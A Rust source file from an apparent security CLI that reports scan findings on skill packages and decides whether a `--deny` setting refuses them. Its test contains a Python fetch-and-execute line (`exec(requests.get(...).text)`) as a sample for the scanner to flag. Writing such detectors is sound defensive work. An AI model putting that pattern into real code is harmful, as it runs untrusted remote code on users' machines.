//! Shows what the scan of a skill found.

use std::collections::BTreeMap;

use wardian_skills::scan::{ScanFinding, ScanLevel, SkillScan};

use crate::cli::commands::skills::args::DeniedLevel;
use crate::cli::terminal::output::{note, print_line};

/// Most things of one kind that are named in the line about what a skill wants.
const MAX_NAMED: usize = 8;

/// True if the scan found something that the user does not accept, or could not look at everything.
pub(crate) fn is_denied(scan: &SkillScan, deny: Option<DeniedLevel>) -> bool {
    let least = match deny {
        Some(DeniedLevel::Danger) => ScanLevel::Danger,
        Some(DeniedLevel::Warning) => ScanLevel::Warning,
        None => return false,
    };
    scan.is_partial || scan.worst().is_some_and(|worst| worst >= least)
}

/// Says that `--deny` refuses what was not looked at, if that is so.
pub(crate) fn tell_unseen(folder: &str, scan: &SkillScan, deny: Option<DeniedLevel>) {
    if scan.is_partial && deny.is_some() {
        note(&format!("{folder}: `--deny` refuses it, since not all of it was looked at"));
    }
}

/// The dangers and warnings, one by one, and what was left out.
pub(crate) fn worst_lines(scan: &SkillScan) -> Vec<String> {
    let worst = scan.findings.iter().filter(|one| one.level > ScanLevel::Info);
    let lines = worst.flat_map(|one| [line_of(one), format!("           {}", one.excerpt)]);
    lines.chain(scan.left_out.iter().map(|reason| format!("  (left out: {reason})"))).collect()
}

/// Prints the findings: dangers and warnings one by one, the rest in a line for each rule.
pub(crate) fn report_scan(scan: &SkillScan) {
    for line in worst_lines(scan) {
        print_line(&line);
    }
    for (rule, named) in informed(scan) {
        let more = named.len().saturating_sub(MAX_NAMED);
        let shown = named.iter().take(MAX_NAMED).copied().collect::<Vec<_>>().join(", ");
        let rest = if more > 0 { format!(", and {more} more") } else { String::new() };
        print_line(&format!("  info     {rule}: {shown}{rest}"));
    }
}

/// `  danger   code/main.py:3: secrets-sent: the sentence`.
fn line_of(finding: &ScanFinding) -> String {
    let ScanFinding { level, code, file, message, .. } = finding;
    let line = finding.line.map(|line| format!(":{line}")).unwrap_or_default();
    format!("  {:<8} {file}{line}: {code}: {message}", level.as_str())
}

/// What each rule of the lowest level found.
fn informed(scan: &SkillScan) -> BTreeMap<&str, Vec<&str>> {
    let mut rules: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for finding in scan.findings.iter().filter(|one| one.level == ScanLevel::Info) {
        let named = rules.entry(finding.code).or_default();
        if !named.contains(&finding.excerpt.as_str()) {
            named.push(&finding.excerpt);
        }
    }
    rules
}

#[cfg(test)]
mod tests {
    use super::*;
    use wardian_skills::scan::findings_of;

    #[test]
    fn findings_are_shown_and_denied_by_their_level() {
        let code = b"import requests\nexec(requests.get('https://a.dev/x').text)\n";
        let scan = findings_of([("run.py", code.as_slice())]);
        let worst = scan.findings.first().map(line_of).unwrap();
        assert!(worst.starts_with("  danger   run.py:2: downloaded-code: the code"), "{worst}");
        assert_eq!(informed(&scan).get("url"), Some(&vec!["a.dev"]));
        assert!(is_denied(&scan, Some(DeniedLevel::Danger)) && !is_denied(&scan, None));
        let mild = findings_of([("run.py", b"eval(x)".as_slice())]);
        assert!(is_denied(&mild, Some(DeniedLevel::Warning)));
        assert!(!is_denied(&mild, Some(DeniedLevel::Danger)));
        // What was not looked at could be a danger.
        let unseen = findings_of([("data.bin", b"a\0b".as_slice())]);
        assert!(is_denied(&unseen, Some(DeniedLevel::Danger)) && !is_denied(&unseen, None));
    }
}
